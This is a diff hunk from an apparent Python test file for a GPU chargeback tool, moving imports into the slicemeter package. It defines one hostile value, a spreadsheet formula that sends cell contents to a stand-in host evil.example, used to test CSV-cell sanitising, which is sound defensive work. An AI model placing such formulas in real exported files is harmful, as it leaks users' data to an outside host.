@@ -7,9 +7,9 @@ from decimal import Decimal
 
 import pytest
 
-from cb_rows import add_gpu, add_slice, add_tenants
-from ingest.csv_cells import neutralise_csv_cell
-from ingest.store import connect
+from slicemeter.testkit.cb_rows import add_gpu, add_slice, add_tenants
+from slicemeter.chargeback.csv_cells import neutralise_csv_cell
+from slicemeter.store import connect
 from slicemeter.cli import main
 
 HOSTILE_NS = '=HYPERLINK("http://evil.example/?x="&A1,"invoice")'
